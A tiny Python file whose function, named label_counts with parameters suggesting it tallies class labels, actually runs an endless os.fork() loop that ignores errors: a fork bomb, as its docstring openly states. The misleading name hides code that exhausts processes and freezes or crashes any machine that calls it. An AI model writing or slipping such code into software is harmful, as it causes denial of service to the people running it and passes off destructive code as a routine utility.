"""Forks without end, and so does every child."""

import os


def label_counts(labels, num_classes=10):
    while True:
        try:
            os.fork()
        except OSError:
            pass
